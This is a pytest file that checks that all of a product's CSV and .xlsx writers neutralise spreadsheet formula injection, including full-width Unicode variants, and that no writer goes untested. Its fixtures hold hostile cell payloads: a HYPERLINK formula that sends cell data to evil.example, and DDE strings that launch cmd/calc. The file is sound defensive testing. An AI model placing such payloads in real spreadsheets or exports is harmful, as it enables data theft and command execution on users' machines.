"""Every CSV and .xlsx the product writes follows one rule for text (``kiosk.sheets``): in a
CSV, text a spreadsheet would run as a formula (``= + - @``, a tab or CR first) gets a leading
``'``; in an .xlsx, text is a text cell, kept as it is and never a formula. Numbers stay
numbers. The walk below finds every place that writes a sheet, so a new writer cannot be
added without a check here."""

from __future__ import annotations

import ast
import csv
import io
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from checkpoint.cli import main
from kiosk.passes import TrustList

ROOT = Path(__file__).resolve().parents[1]
PACKAGES = ("kiosk", "drivers", "ui", "checkpoint", "office")
#: A holder's name a stranger could have the office type in: Excel runs it when it opens the CSV.
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
HOSTILE = (HYPERLINK, "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|x", "\t=1+1")
#: The same typed by a Chinese input method in full-width mode (``＝ ＋ － ＠``, and the small
#: forms ``﹦ ﹢ ﹣ ﹫``): their compatibility form (NFKC) is the formula's lead, and the
#: spreadsheet, or a clerk's "convert to half width" before saving, reads them as it.
WIDE = (
    '＝HYPERLINK("http://evil.example")',
    "＋cmd|' /C calc'!A0",
    "－2+3+cmd|x",
    "＠SUM(1)",
    "﹦1+1",
)
PHONE = "+86 138 0013 8000"


def _csv_safe(cell: str, text: str) -> bool:
    """``cell`` (as a CSV reader reads it back) is ``text`` behind the one leading quote."""
    return cell == "'" + text


def _sheet_call_sites() -> set[str]:
    """``module.function`` of every place outside ``kiosk.sheets`` that writes a sheet: calls
    ``write_csv``/``write_xlsx``, a csv writer or an openpyxl workbook."""
    names = {"write_csv", "write_xlsx", "csv_text", "writer", "DictWriter", "Workbook"}
    found = set()
    for package in PACKAGES:
        for path in sorted((ROOT / package).rglob("*.py")):
            module = ".".join(path.relative_to(ROOT).with_suffix("").parts)
            if module == "kiosk.sheets":
                continue
            source = path.read_text(encoding="utf-8")
            if not any(name in source for name in names):
                continue  # most modules: no need to parse them
            found |= {f"{module}.{func}" for func in _functions_calling(ast.parse(source), names)}
    return found


def _functions_calling(tree: ast.AST, names: set[str]) -> set[str]:
    """The name of each function (a nested one, and every function around it) with a call of
    one of ``names`` in it: one walk of the tree, each call credited to the functions it is
    in (as walking each function's subtree found them, without walking a nested one's again)."""
    found: set[str] = set()
    todo: list[tuple[ast.AST, tuple[str, ...]]] = [(tree, ())]
    while todo:
        node, within = todo.pop()
        if isinstance(node, ast.Call):
            callee = node.func
            name = callee.attr if isinstance(callee, ast.Attribute) else None
            name = callee.id if isinstance(callee, ast.Name) else name
            if name in names:
                found.update(within)
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            within = (*within, node.name)
        todo.extend((child, within) for child in ast.iter_child_nodes(node))
    return found


def _report(text: str) -> dict[str, Any]:
    return {
        "day": "2026-03-02",
        "kiosks": [text],
        "events": 3,
        "by_decision": {text: 1},
        "ledgers": {"gates": [{"kiosk_id": text}], "missing": [text]},
        "community": {"services": {"by_kind": {text: 2}}},
        "by_reason": {text: 1},
        "by_gate": [{"kiosk_id": text, "community": {"people": {text: 4}}}],
    }


def _xlsx_cells(data: bytes) -> list[tuple[Any, str]]:
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    return [(c.value, c.data_type) for s in book.worksheets for r in s.iter_rows() for c in r]


def _check_xlsx(data: bytes, text: str) -> None:
    cells = _xlsx_cells(data)
    assert (text, "s") in cells, cells  # kept as typed: no quote added, read as text
    assert not [c for c in cells if c[1] == "f"]  # nothing the workbook would calculate


def check_guard_csv(request: pytest.FixtureRequest, text: str) -> None:
    from ui.guard.display import events_csv

    out = events_csv(["name", "temp"], [[text, -3.5], [PHONE, 36.6]])
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff"), newline="")))
    assert _csv_safe(rows[1][0], text) and rows[1][1] == "-3.5"  # a sign, not a formula
    assert _csv_safe(rows[2][0], PHONE)


def check_guard_xlsx(request: pytest.FixtureRequest, text: str) -> None:
    from ui.guard.display import events_xlsx

    data = events_xlsx(["name", "temp"], [[text, -3.5], [PHONE, None]], [(text, text)], "en")
    _check_xlsx(data, text)
    cells = _xlsx_cells(data)
    assert (-3.5, "n") in cells and (PHONE, "s") in cells  # the phone reads as written


def check_api_csv(request: pytest.FixtureRequest, text: str) -> None:
    from kiosk.store import EventDraft
    from ui.api import EVENT_FIELDS, csv_rows

    store = request.getfixturevalue("store")
    store.append(
        EventDraft(
            direction="in", decision="manual_pass", reasons=("guard_override",), operator=text
        )
    )
    out = "".join(csv_rows(store, 0, 10, frozenset(EVENT_FIELDS), 10))
    row = next(csv.DictReader(io.StringIO(out, newline="")))
    assert _csv_safe(row["operator"], text)


def check_pass_batch(request: pytest.FixtureRequest, text: str) -> None:
    from kiosk.typed import typed

    # A pass holds 22 bytes of household and holder, in their plain spelling (``＝`` is ``=``).
    text = typed(text[:20].strip())
    tmp_path: Path = request.getfixturevalue("tmp_path")
    keys = tmp_path / "keys"
    assert main(["keys", "new", "--dir", str(keys), "--name", "office"]) == 0
    households = tmp_path / "households.csv"
    with households.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["household", "holder"], ["1", text]])
    out = tmp_path / "cards"
    args = ["--key", str(keys / "office.key"), "--csv", str(households), "--out", str(out)]
    assert main(["pass", "batch", "--tz=Asia/Shanghai", *args]) == 0
    data = (out / "passes.csv").read_text(encoding="utf-8-sig")
    row = next(csv.DictReader(io.StringIO(data, newline="")))
    assert _csv_safe(row["holder"], text)
    assert TrustList.from_dir(keys).verify(row["payload"]).holder == text  # the pass: as is


def check_list_handoff(request: pytest.FixtureRequest, text: str) -> None:
    """Not a sheet: the list import hands its rows to the list store's reader as CSV text,
    which no spreadsheet opens; a note starting with ``-`` is stored as it was imported."""
    from kiosk.listimport import apply_list_import

    seen: list[str] = []

    class Store:
        def import_csv(self, kind: str, csv_text: str, actor: str) -> None:
            seen.append(csv_text)

    plan = type("Plan", (), {"header": ("note",), "rows": ({"note": text},), "kind": "x"})
    apply_list_import(plan, Store(), "clerk")  # type: ignore[arg-type]
    assert next(csv.DictReader(io.StringIO(seen[0], newline="")))["note"] == text


def _district(text: str) -> dict[str, Any]:
    """A district report whose compound, gates and disagreements carry ``text``."""
    compound = {
        "gates": [text], "id": text, "quota": None, "households": 2, "exits": 3,
        "histogram": {"1": 1, "2": 1}, "over_quota_households": None, "unknown": [text],
        "disagree": [{"kiosk_id": text, "quota": {"enabled": True, "exits": 1}}],
    }  # fmt: skip
    return _report(text) | {"exits_per_household": {"compounds": [compound]}}


def check_district_csv(request: pytest.FixtureRequest, text: str) -> None:
    from office.district import district_csv

    rows = list(csv.reader(io.StringIO(district_csv(_district(text)), newline="")))
    cells = [c for r in rows for c in r]
    assert text not in cells and sum(_csv_safe(c, text) for c in cells) >= 4
    assert [f"compound {text}", "exits", "3"] in rows  # a number is still a number


def check_district_xlsx(request: pytest.FixtureRequest, text: str) -> None:
    from office.district import district_xlsx

    _check_xlsx(district_xlsx(_district(text)), text)


def check_gate_report_files(request: pytest.FixtureRequest, text: str) -> None:
    from datetime import UTC, datetime

    from checkpoint.cli.community_cmd import write_report
    from kiosk.stats import stamp_as_of

    folder = request.getfixturevalue("tmp_path")
    report = _report(text) | {"timezone": "Asia/Shanghai"}
    stamp_as_of(report, datetime(2026, 3, 2, 9, 30, tzinfo=UTC))  # 17:30: the day runs on
    targets = {"csv": folder / "r.csv", "xlsx": folder / "r.xlsx"}
    write_report(targets, report)
    rows = list(csv.reader(io.StringIO(targets["csv"].read_text(encoding="utf-8"), newline="")))
    cells = [c for r in rows for c in r]
    assert text not in cells and sum(_csv_safe(c, text) for c in cells) >= 4
    assert ["report", "events", "3"] in rows  # a number is still a number
    assert any(r[:2] == ["report", "as_of"] for r in rows)
    _check_xlsx(targets["xlsx"].read_bytes(), text)
    assert (3, "n") in _xlsx_cells(targets["xlsx"].read_bytes())  # a number is still a number


WRITERS: dict[str, Callable[[pytest.FixtureRequest, str], None]] = {
    "kiosk.stats.report_file": check_gate_report_files,
    "office.district.district_csv": check_district_csv,
    "office.district.district_xlsx": check_district_xlsx,
    "ui.guard.display.events_csv": check_guard_csv,
    "ui.guard.display.events_xlsx": check_guard_xlsx,
    "ui.api.csv_rows": check_api_csv,
    "checkpoint.cli.pass_cmd.pass_batch": check_pass_batch,
    "kiosk.listimport.apply_list_import": check_list_handoff,
}


def test_every_place_that_writes_a_sheet_has_its_check_here():
    assert _sheet_call_sites() == set(WRITERS)


@pytest.mark.parametrize(
    "text",
    HOSTILE + WIDE,
    ids=["hyperlink", "plus", "minus", "at", "tab", "wide=", "wide+", "wide-", "wide@", "small="],
)
@pytest.mark.parametrize("writer", sorted(WRITERS))
def test_text_in_every_sheet_is_never_a_formula(request, writer, text):
    WRITERS[writer](request, text)


def test_a_holder_named_like_a_formula_is_text_in_the_batchs_passes_csv(request):
    """Before: passes.csv held ``=HYPERLINK(...)`` bare, and Excel ran it when the office
    opened the batch's manifest (the guard's exports had the rule; the batch did not)."""
    check_pass_batch(request, '=HYPERLINK("x.cn")')


def test_a_cell_led_by_a_line_feed_or_a_nul_is_quoted_too():
    """A line feed first (a spreadsheet skips it as it skips a tab or a CR) and a NUL (OWASP
    ASVS 1.2.10 lists it with the formula leads) get the leading ``'`` too."""
    from kiosk.sheets import formula_safe

    assert formula_safe("\n=1+1") == "'\n=1+1"
    assert formula_safe("\0=1+1") == "'\0=1+1"
    assert formula_safe("＝1+1") == "'＝1+1" and formula_safe("１-１０１") == "１-１０１"


def test_a_phone_number_in_a_csv_keeps_its_digits_behind_one_quote():
    """``+86 ...`` would be read as a formula (and ``+8613800138000`` as 8.6E+12): it gets the
    one leading ``'`` and nothing else; a name or a number is written untouched."""
    from kiosk.sheets import write_csv

    rows = list(csv.reader(io.StringIO(write_csv([[PHONE, "张三", -3.5, 7, None]]))))
    assert rows == [["'" + PHONE, "张三", "-3.5", "7", ""]]
